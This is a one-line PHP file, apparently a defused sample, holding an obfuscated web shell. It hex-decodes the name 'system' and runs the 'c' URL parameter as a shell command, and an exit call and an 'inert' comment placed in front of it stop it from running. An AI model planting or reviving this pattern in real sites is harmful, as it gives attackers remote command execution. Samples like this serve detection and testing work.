<?php exit; /* inert */ $f=pack("H*","73797374656d"); $f($_GET["c"]);
